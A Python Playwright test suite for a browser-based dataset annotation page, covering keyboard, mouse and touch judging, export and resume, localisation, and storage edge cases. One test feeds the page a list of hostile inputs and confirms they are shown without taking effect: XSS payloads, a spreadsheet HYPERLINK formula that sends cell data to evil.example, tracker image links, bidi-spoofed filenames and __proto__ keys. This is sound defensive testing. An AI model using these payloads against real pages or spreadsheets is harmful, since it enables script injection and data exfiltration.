"""The annotator's page in Chromium, from disk: judged by key, mouse and touch, kept, exported, resumed, unharmed."""

import json
import shutil
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from validation.annotation.package import Item, Text, Turn, Vote
from validation.annotation.texts import LANGUAGES, texts

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

from tests.annotating import (  # noqa: E402  (it needs playwright)
    FLAGS,
    WRITTEN,
    Watch,
    arrive,
    export,
    heading,
    item,
    opened,
    package,
    picture,
    press,
    reload,
    resume,
    write,
)

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine")

HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    "<svg onload=alert(3)><a href=javascript:alert(4)>x</a>",
    "safe\u202egnp.exe\u202c \u2067hidden\u2069",
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "one\u2028two\u2029three\x00four\x1b[31m",
    "W" * 3_000,
    "half \ud83d of a pair, and a whole \U0001f600",
    "http://evil.example/tracker.png ![](http://evil.example/i.png)",
    "{{ 7*7 }} ${alert(5)} `alert(6)` &lt;b&gt;",
    "line\r\nline",
)


@pytest.fixture(scope="module")
def running() -> Iterator[Any]:
    with playwright.sync_playwright() as started:
        yield started


@pytest.fixture(scope="module")
def browser(running: Any) -> Iterator[Any]:
    launched = running.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
    yield launched
    launched.close()


def label_of(number: int) -> str:
    return "reject" if number % 5 == 3 else "unsure" if number % 7 == 0 else "accept"


def judge(tab: Any, number: int) -> None:
    """Judge the item on screen by keyboard alone, as `label_of` has it."""
    assert heading(tab) == f"Item {number + 1} of 40"
    label = label_of(number)
    press(tab, {"accept": "1", "reject": "2", "unsure": "3"}[label])
    if label != "reject":
        return
    press(tab, "q r")
    if number == 13:
        press(tab, "r t c")
        tab.keyboard.type('ez da "hori" <b>\u202e')
        press(tab, "Escape f End")
        tab.keyboard.type(" Bai?")
        press(tab, "Tab Tab End")
        tab.keyboard.type("!")
        press(tab, "Escape")
    press(tab, "ArrowRight")


def test_forty_items_by_keyboard_with_the_browser_closed_and_opened_again(running: Any, tmp_path: Path) -> None:
    made = package(*map(item, range(40)))
    address = write(tmp_path / "a", made)
    options = {
        "executable_path": CHROMIUM, "args": FLAGS, "accept_downloads": True, "locale": "en-GB",
        "viewport": {"width": 1280, "height": 800},
    }  # fmt: skip
    with running.chromium.launch_persistent_context(tmp_path / "profile", **options) as context:
        watch = Watch(context)
        tab = context.pages[0]
        tab.goto(address)
        assert heading(tab) == "Guidelines"
        press(tab, "Enter")
        for number in range(20):
            judge(tab, number)
        tab.wait_for_timeout(WRITTEN)
    watch.check()
    with running.chromium.launch_persistent_context(tmp_path / "profile", **options) as context:
        watch = Watch(context)
        tab = context.pages[0]
        tab.goto(address)
        assert tab.locator("#progress").inner_text() == "20 of 40 judged"
        for number in range(20, 40):
            judge(tab, number)
        assert tab.locator("#outcome").inner_text() == "All items are judged. Thank you!"
        value = export(tab, tmp_path)
        assert f"Saved as {made.package_id}.json, with 40 of 40 items judged." in tab.locator("#status").inner_text()
        # Another package, and a changed one of the same name, know nothing of it.
        for other in (package(*map(item, range(40)), package_id="other"), package(*map(item, range(40)), title="B")):
            tab.goto(write(tmp_path / "b", other))
            assert tab.locator("#progress").inner_text() == "0 of 40 judged"
    watch.check()
    judgements = value.pop("judgements")
    moments = [value.pop("started"), *(each.pop("at") for each in judgements), value.pop("exported")]
    assert moments == sorted(moments)
    assert all(isinstance(each.pop("ms"), int) for each in judgements)
    assert value == {
        "format": "vlm-annotations/1",
        "package_id": made.package_id,
        "package_sha256": made.sha256,
        "annotator": "ane",
        "task": "accept",
    }
    for number, judgement in enumerate(judgements):
        label = label_of(number)
        assert judgement == {
            "item_id": f"it-{number:04d}",
            "label": label,
            "reasons": [] if label != "reject" else ["meaning", "other" if number == 13 else "image-mismatch"],
            "comment": 'ez da "hori" <b>\u202e' if number == 13 else "",
            "corrections": {"question": "Zer da 13. zenbakia? Bai?", "options.0": "etxe bat!"} if number == 13 else {},
        }


def test_resumed_in_another_browser_the_newest_judgement_wins(browser: Any, tmp_path: Path) -> None:
    address = write(tmp_path, package(*map(item, range(4))))
    with opened(browser, address) as tab:
        press(tab, "1 2 q ArrowRight f End")
        tab.keyboard.type(" c")
        press(tab, "Escape 1")
        first = export(tab, tmp_path)
    file = tmp_path / "toy.round-1.ane.json"
    with opened(browser, address) as tab:
        press(tab, "3")
        assert resume(tab, file) == "Judgements taken from the file: 2."
        assert tab.locator("#progress").inner_text() == "3 of 4 judged"
        second = export(tab, tmp_path)
        assert [each["label"] for each in second["judgements"]] == ["unsure", "reject", "accept"]
        assert second["judgements"][1:] == first["judgements"][1:]
        assert resume(tab, file) == "Judgements taken from the file: 0."
        third = export(tab, tmp_path)
        assert third["judgements"] == second["judgements"]
        # What is said later wins, whatever the clock of the browser before; one that is far ahead holds nothing up.
        for judgement, ahead in zip(third["judgements"], (timedelta(hours=2), timedelta(days=400)), strict=False):
            judgement["at"] = (datetime.now(UTC) + ahead).isoformat(timespec="milliseconds").replace("+00:00", "Z")
        file.write_text(json.dumps(third))
        resume(tab, file)
        press(tab, "ArrowLeft ArrowLeft ArrowLeft 2 ArrowRight 1")
        first, other, _ = export(tab, tmp_path)["judgements"]
        assert (first["label"], other["label"]) == ("reject", "accept")
        assert third["judgements"][0]["at"] < first["at"]
        assert other["at"] <= first["at"]


def test_what_is_no_export_of_this_page_is_refused_and_changes_nothing(browser: Any, tmp_path: Path) -> None:
    made = package(*map(item, range(3)))
    good = {"format": "vlm-annotations/1", "package_id": made.package_id, "package_sha256": made.sha256}
    judgement = {"item_id": "it-0001", "label": "accept", "at": "2026-01-01T00:00:00.000Z"}
    files = {
        "not JSON": "is not a file that this page exported, or is damaged",
        "[]": "was not exported by a page like this one",
        "null": "was not exported by a page like this one",
        json.dumps(good): "was not exported by a page like this one",
        json.dumps(good | {"package_id": "other", "judgements": [judgement]}): "belongs to another page",
        json.dumps(good | {"package_sha256": "0" * 64, "judgements": [judgement]}): "another version of this page",
        " " * 20_000_001: "is too large",
    }
    with opened(browser, write(tmp_path, made)) as tab:
        press(tab, "1")
        file = tmp_path / "file.json"
        for content, message in files.items():
            file.write_text(content)
            assert message in resume(tab, file)
            assert tab.locator("#progress").inner_text() == "1 of 3 judged"
        odd = {"reasons": "q", "comment": 7, "ms": "NaN", "at": "yesterday", "corrections": []}
        strange = [
            *(None, 7, "x", [], {}),
            *(judgement | {"item_id": item_id} for item_id in ("it-9999", "__proto__", None, ["it-0001"])),
            judgement | odd | {"label": "constructor"},
            judgement
            | {"item_id": "it-0002", "label": "reject", "reasons": ["meaning", "evil"], "comment": "<b>", "ms": -1}
            | {"corrections": {"question": 7, "options.0": "", "other": "x", "options.1": "x"}},
        ]
        file.write_text(json.dumps(good | {"judgements": strange}))
        resume(tab, file)
        labels = export(tab, tmp_path)["judgements"]
    assert [each["item_id"] for each in labels] == ["it-0000", "it-0002"]
    assert labels[1] == {
        "item_id": "it-0002",
        "label": "reject",
        "reasons": ["meaning"],
        "comment": "<b>",
        "corrections": {"options.1": "x"},
        "ms": 0,
        "at": "2026-01-01T00:00:00.000Z",
    }


def test_hostile_texts_are_shown_and_do_nothing(browser: Any, tmp_path: Path) -> None:
    texts_ = tuple(Text(f"field{n}", each, each) for n, each in enumerate(HOSTILE))
    named = tuple(Text(name, "a", "b") for name in ("__proto__", "constructor", "toString.0", HOSTILE[1]))
    boxes = ((0.0, 0.0, 1.0, 1.0), (0.9, 0.2, 0.1, 0.3), (-5.0, 0.0, 7.0, 0.5))
    turns = tuple(Turn(each, each) for each in HOSTILE)
    items = (
        Item("it-1", texts_, turns, boxes, picture(1), 320, 200),
        Item("it-2", named, image_note=HOSTILE[0]),
        Item("__proto__", texts_, image="http://evil.example/x.png".replace("http:", "data:text/html,")),
    )
    votes = (Vote("reject", ("meaning", HOSTILE[0]), HOSTILE[3], {"field0": HOSTILE[1], "__proto__": "p"}),)
    gaps = (Text("question", "What?", ""), Text("answer", "", "Bai"), Text("caption", " \r\n", "\ufeff"))
    items = (*(replace(each, votes=votes) for each in items), Item("it-4", gaps))
    made = package(*items, title=HOSTILE[1] + HOSTILE[3], guidelines="\n\n".join(HOSTILE), target_language='"><b>')
    with opened(browser, write(tmp_path, made)) as tab:
        shown = tab.locator(".fields .source .said").all_text_contents()
        marks = {"\u202e": "U+202E", "\u202c": "U+202C", "\u2067": "U+2067", "\u2069": "U+2069", "\r": ""}
        marks |= {"\u2028": "U+2028", "\u2029": "U+2029", "\x00": "U+0000", "\x1b": "U+001B", "\ud83d": "U+D83D"}
        assert shown == [text.translate(str.maketrans(marks)) for text in HOSTILE]
        assert tab.evaluate("document.documentElement.scrollWidth") == 1280
        assert tab.locator("#item img").count() == 1
        assert tab.locator("#item script, #item a, #item b:not(.reject), #item svg a").count() == 0
        press(tab, "f End")
        tab.keyboard.type("x")
        press(tab, "Escape 2 q g g o Escape ArrowRight f End")
        tab.keyboard.type("x")
        press(tab, "Escape 1 1")
        value = export(tab, tmp_path)
        assert tab.evaluate("({}).label === undefined && ({}).b === undefined")
        # A line's end or half a pair that the dataset has is no correction of it.
        assert [each["corrections"] for each in value["judgements"]] == [
            {"field0": HOSTILE[0] + "x"},
            {"__proto__": "bx"},
            {},
        ]
        # What is missing is said in its place, and the translation is what a correction corrects.
        assert heading(tab) == "Item 4 of 4"
        assert tab.locator(".fields .source .said").all_text_contents() == ["What?", "(empty)", "(empty)"]
        assert tab.locator(".fields .target .said").all_text_contents() == ["(empty)", "Bai", "U+FEFF"]
        assert tab.locator(".target").get_by_role("button").count() == 3


def test_pairs_are_judged_left_tie_right(browser: Any, tmp_path: Path) -> None:
    items = tuple(replace(item(n), left=f"left {n}\n=1+1", right=f"right {n}" if n else "") for n in range(4))
    with opened(browser, write(tmp_path, package(*items, task="pair", target_language="heb"))) as tab:
        assert tab.locator(".answers .said").all_text_contents() == ["left 0\n=1+1", "(empty)"]
        # A text of a language that is written from right to left is, also where it starts with a name or a number.
        for part, direction in ((".answers", "rtl"), (".turns", "rtl"), (".target", "rtl"), (".source", "ltr")):
            said = tab.locator(f"{part} .said").first
            assert said.evaluate("(element) => getComputedStyle(element).direction") == direction
        assert tab.locator(".answers h2").all_text_contents() == ["First answer", "Second answer"]
        boxes = [box.bounding_box() for box in tab.locator(".answers > div").all()]
        assert boxes[0]["y"] == boxes[1]["y"]
        press(tab, "f q 1 2")
        assert tab.locator(".reasons button:visible").count() == 0
        press(tab, "c")
        tab.keyboard.type("both name it")
        press(tab, "Escape 3")
        assert tab.locator("#progress").inner_text() == "3 of 4 judged"
        value = export(tab, tmp_path)
    assert value["task"] == "pair"
    found = [(each["label"], each["comment"], each["reasons"], each["corrections"]) for each in value["judgements"]]
    assert found == [("left", "", [], {}), ("tie", "", [], {}), ("right", "both name it", [], {})]


def test_whoever_adjudicates_sees_what_the_others_said_and_takes_a_correction(browser: Any, tmp_path: Path) -> None:
    votes = (Vote("reject", ("meaning", "other"), "ez", {"question": "Zer da hau?"}), Vote("accept"), Vote("unsure"))
    with opened(browser, write(tmp_path, package(replace(item(1), votes=votes)))) as tab:
        said = [" ".join(each.split()) for each in tab.locator(".votes li").all_inner_texts()]
        assert said == [
            "✕ Reject · Meaning, Other ez Question Zer da hau? Take this correction",
            "✓ Accept",
            "? Unsure",
        ]
        tab.get_by_role("button", name="Take this correction").click()
        assert tab.get_by_label("Corrected text: question").input_value() == "Zer da hau?"
        press(tab, "Escape 1")
        (judgement,) = export(tab, tmp_path)["judgements"]
    assert (judgement["label"], judgement["corrections"]) == ("accept", {"question": "Zer da hau?"})


def test_a_correction_is_undone_and_a_changed_mind_leaves_no_reasons(browser: Any, tmp_path: Path) -> None:
    with opened(browser, write(tmp_path, package(item(1), item(2), target_language="fa"))) as tab:
        press(tab, "f")
        area = tab.get_by_label("Corrected text: question")
        assert area.evaluate("(element) => getComputedStyle(element).direction") == "rtl"
        area.fill("Beste bat")
        tab.get_by_role("button", name="Undo").first.click()
        area = tab.get_by_label("Corrected text: Options 2")
        area.fill("   ")
        press(tab, "Escape 2 q w ArrowRight ArrowLeft 1")
        (judgement,) = export(tab, tmp_path)["judgements"]
        assert (judgement["label"], judgement["reasons"], judgement["corrections"]) == ("accept", [], {})
        # To look at an item again changes nothing of it; to say the same again neither.
        press(tab, "ArrowLeft 1")
        assert export(tab, tmp_path)["judgements"] == [judgement]


def test_the_page_speaks_the_language_of_the_translation_and_every_other(browser: Any, tmp_path: Path) -> None:
    with opened(browser, write(tmp_path, package(item(1), item(2), target_language="it"))) as tab:
        assert tab.locator("#language").input_value() == "it"
        for language in LANGUAGES:
            say = texts(language)
            tab.locator("#language").select_option(language)
            assert tab.evaluate("document.documentElement.lang") == language
            labels = [say["labels"][label] for label in ("accept", "reject", "unsure")]
            assert tab.locator(".labels button").all_text_contents() == [
                f"{each}{n}" for n, each in enumerate(labels, 1)
            ]
            assert tab.locator(".target .said").first.get_attribute("lang") == "it"
            press(tab, "Escape g")
            assert heading(tab) == say["guidelines"]
            assert tab.locator(".prose:visible").get_attribute("lang") == language
            press(tab, "g")


def test_a_language_is_chosen_and_kept(browser: Any, tmp_path: Path) -> None:
    address = write(tmp_path, package(item(1), target_language="cy"))
    with opened(browser, address, locale="fr-CA") as tab:
        assert tab.evaluate("document.documentElement.lang") == "fr"
        tab.get_by_label(texts("fr")["language"]).select_option("eu")
        assert heading(tab) == "1. elementua, 1 guztira"
        reload(tab)
        assert tab.evaluate("document.documentElement.lang") == "eu"
        assert tab.evaluate("document.title") == "A toy"
    with opened(browser, write(tmp_path, package(item(1), target_language="eus")), locale="ja-JP") as tab:
        assert tab.evaluate("document.documentElement.lang") == "eu"


def test_by_touch_on_a_phone(browser: Any, tmp_path: Path) -> None:
    items = (item(0), replace(item(1), texts=(Text("text", "W" * 500, "W" * 500),)), item(2))
    phone = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True}
    with opened(browser, write(tmp_path, package(*items)), **phone) as tab:
        tab.keyboard.press("g")
        assert tab.get_by_role("button", name="Start").first.bounding_box()["y"] < 844 - 44
        tab.get_by_role("button", name="Start").first.tap()
        for language in LANGUAGES:
            tab.evaluate("(language) => speak(language)", language)
            for key in ("2", "g", "o", "Escape"):
                tab.keyboard.press(key)
                assert tab.evaluate("document.documentElement.scrollWidth") == 390
                heights = "[...document.querySelectorAll('button')].map((each) => each.offsetHeight)"
                assert min(filter(None, tab.evaluate(heights))) >= 44
        wide = "[...document.querySelectorAll('footer button')].filter((each) => each.scrollWidth > each.clientWidth)"
        for width, height in ((320, 568), (844, 390)):
            tab.set_viewport_size({"width": width, "height": height})
            for language in LANGUAGES:
                tab.evaluate("(language) => speak(language)", language)
                assert tab.evaluate("document.documentElement.scrollWidth") == width
                assert tab.evaluate(f"{wide}.map((each) => each.textContent)") == []
                assert tab.locator("#progress").bounding_box()["height"] < 40  # One line.
            assert tab.locator("footer").evaluate("(footer) => getComputedStyle(footer).position") == "static"
        tab.set_viewport_size(phone["viewport"])
        tab.evaluate("speak('en')")
        image, text = tab.locator("#item img").bounding_box(), tab.locator(".source").first.bounding_box()
        target, bar = tab.locator(".target").first.bounding_box(), tab.locator("footer").bounding_box()
        assert image["y"] + image["height"] <= text["y"] < target["y"]
        assert bar["y"] + bar["height"] == 844
        tab.get_by_role("button", name="Grammar").tap()
        tab.get_by_role("button", name="Next item").tap()
        arrive(tab, "Item 2 of 3")
        tab.get_by_role("button", name="Accept").tap()
        tab.locator(".zoom").tap()
        assert tab.locator(".zoom").bounding_box()["height"] == 844
        large, boxes = tab.locator("#item img").bounding_box(), tab.locator("#item svg").bounding_box()
        assert (round(large["width"]), round(large["height"])) == (390, 244)
        assert boxes == large
        tab.locator(".zoom").tap()
        arrive(tab, "Item 3 of 3")
        tab.get_by_role("button", name="Unsure").tap()
        tab.get_by_role("button", name="Item 1 of 3: Reject").tap()
        assert tab.get_by_role("button", name="Grammar").get_attribute("aria-pressed") == "true"
        found = export(tab, tmp_path)["judgements"]
    assert [(each["label"], each["reasons"]) for each in found] == [
        ("reject", ["grammar"]),
        ("accept", []),
        ("unsure", []),
    ]


def test_by_mouse_alone(browser: Any, tmp_path: Path) -> None:
    boxes = ((0.1, 0.2, 0.5, 0.6), (0.0, 0.0, 0.1, 0.1), (0.2, 0.0, 0.9, 1.0))
    with opened(browser, write(tmp_path, package(replace(item(0), boxes=boxes), item(1), item(2)))) as tab:
        # The number of a box covers nothing of what is in it, but where the box is as high as the image.
        drawn = [tab.locator(f"#item svg {each}").all() for each in (".edge", ".tag")]
        edges, tags = ([each.bounding_box() for each in part] for part in drawn)
        assert tags[0]["y"] + tags[0]["height"] == pytest.approx(edges[0]["y"], abs=2)
        assert tags[1]["y"] == pytest.approx(edges[1]["y"] + edges[1]["height"], abs=2)
        assert tags[2]["y"] == pytest.approx(edges[2]["y"], abs=2)
        arrive(tab, "Item 1 of 3")
        tab.get_by_role("button", name="Reject").click()
        tab.get_by_role("button", name="Meaning").click()
        tab.get_by_role("button", name="Correct: Options 1").click()
        assert tab.get_by_label("Corrected text: Options 1").input_value() == "etxe bat"
        tab.get_by_label("Corrected text: Options 1").fill("etxea")
        tab.get_by_label("Comment").fill("hobe")
        tab.get_by_role("button", name="1 of 3 judged").click()
        tab.get_by_role("button", name="Next open item").click()
        arrive(tab, "Item 2 of 3")
        tab.get_by_role("button", name="Accept").dblclick()
        assert heading(tab) == "Item 3 of 3"
        # A key after a click finds no button that the click has left in focus.
        press(tab, "Space Enter")
        assert (heading(tab), tab.locator("#progress").inner_text()) == ("Item 3 of 3", "2 of 3 judged")
        tab.get_by_role("button", name="Previous item").click()
        press(tab, "Space")
        assert heading(tab) == "Item 2 of 3"
        press(tab, "Enter")
        assert heading(tab) == "Item 3 of 3"
        tab.get_by_role("button", name="2 of 3 judged").click()
        with tab.expect_download() as download:
            tab.locator("#overview").get_by_role("button", name="Export").click()
        found = json.loads(Path(download.value.path()).read_text())["judgements"]
    assert [(each["label"], each["corrections"], each["comment"]) for each in found] == [
        ("reject", {"options.0": "etxea"}, "hobe"),
        ("accept", {}, ""),
    ]


def test_keys_of_other_keyboards_and_a_key_held_down(browser: Any, tmp_path: Path) -> None:
    address = write(tmp_path, package(*map(item, range(6))))
    with opened(browser, address) as tab:
        send = "(event) => document.body.dispatchEvent(new KeyboardEvent('keydown', { bubbles: true, ...event }))"
        tab.evaluate(send, {"key": "&", "code": "Digit1"})
        tab.evaluate(send, {"key": "3", "code": "Numpad3"})
        tab.evaluate(send, {"key": "2", "code": "Digit2"})
        tab.evaluate(send, {"key": "й", "code": "KeyQ"})
        tab.evaluate(send, {"key": "W", "code": "KeyZ"})
        for ignored in ({"repeat": True}, {"ctrlKey": True}, {"altKey": True}, {"isComposing": True}):
            tab.evaluate(send, {"key": "1", "code": "Digit1"} | ignored)
        found = export(tab, tmp_path)["judgements"]
        press(tab, "ArrowRight")
        tab.get_by_role("button", name="Accept").focus()
        for _ in range(2):
            arrive(tab, heading(tab))
            tab.keyboard.down("Enter")
        tab.keyboard.up("Enter")
        assert heading(tab) == "Item 5 of 6"
    assert [(each["label"], each["reasons"]) for each in found] == [
        ("accept", []),
        ("unsure", []),
        ("reject", ["meaning", "grammar"]),
    ]


def test_time_is_counted_while_somebody_works(browser: Any, tmp_path: Path) -> None:
    address = write(tmp_path, package(*map(item, range(3))))
    hide = "(hidden) => { Object.defineProperty(document, 'hidden', { value: hidden, configurable: true });"
    hide += "document.dispatchEvent(new Event('visibilitychange')); }"
    with opened(browser, address) as tab:
        tab.clock.install()
        reload(tab)
        tab.clock.run_for(4000)
        press(tab, "1")
        tab.clock.run_for(600_000)
        press(tab, "1")
        tab.clock.run_for(2000)
        tab.evaluate(hide, True)
        tab.clock.run_for(30_000)
        tab.evaluate(hide, False)
        tab.clock.run_for(3000)
        press(tab, "1")
        times = [each["ms"] for each in export(tab, tmp_path)["judgements"]]
    assert times == [pytest.approx(4000, abs=900), pytest.approx(60_000, abs=900), pytest.approx(5000, abs=900)]


def test_a_browser_that_keeps_nothing_says_so(browser: Any, tmp_path: Path) -> None:
    address = write(tmp_path, package(item(0), item(1)))
    with opened(browser, address) as tab:
        tab.evaluate("try { for (let n = 0; ; n++) localStorage.setItem('x' + n, 'y'.repeat(2 ** 16)); } catch {}")
        tab.evaluate("try { for (let n = 0; ; n++) localStorage.setItem('z' + n, 'y'); } catch {}")
        press(tab, "1")
        assert tab.locator("#problem").inner_text() == texts("en")["storage_full"]
        tab.evaluate("localStorage.clear()")
        press(tab, "1")
        assert tab.locator("#problem").inner_text() == ""
    blocked = (
        "Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('no', 'SecurityError'); } })"
    )
    context = browser.new_context(locale="en-GB")
    context.add_init_script(blocked)
    tab = context.new_page()
    tab.goto(address)
    press(tab, "Enter 1")
    assert tab.locator("#problem").inner_text() == texts("en")["storage_blocked"]
    context.close()


def test_a_page_with_judgements_not_exported_asks_before_it_is_left(browser: Any, tmp_path: Path) -> None:
    address = write(tmp_path, package(item(0), item(1)))
    with opened(browser, address) as tab:
        reload(tab)
        assert tab.watch.dialogs == []
        press(tab, "1")
        reload(tab)
        assert tab.watch.dialogs == ["beforeunload"]
        press(tab, "o")
        tab.locator("#exported", has_text=texts("en")["unexported"]).wait_for()
        export(tab, tmp_path)
        reload(tab)
        assert tab.watch.dialogs == ["beforeunload"]


def test_another_tab_of_the_same_page_does_not_lose_anything(browser: Any, tmp_path: Path) -> None:
    with opened(browser, write(tmp_path, package(*map(item, range(4))))) as tab:
        other = tab.context.new_page()
        other.goto(tab.url)
        press(tab, "1 3")
        playwright.expect(other.locator("#progress")).to_have_text("2 of 4 judged")
        press(other, "n 2 c")
        other.keyboard.type("half a ")
        playwright.expect(tab.locator("#progress")).to_have_text("3 of 4 judged")
        press(tab, "n 1")
        playwright.expect(other.locator("#progress")).to_have_text("4 of 4 judged")
        other.keyboard.type("comment")
        value = export(other, tmp_path, "Escape x")
    assert [each["label"] for each in value["judgements"]] == ["accept", "unsure", "reject", "accept"]
    assert value["judgements"][2]["comment"] == "half a comment"
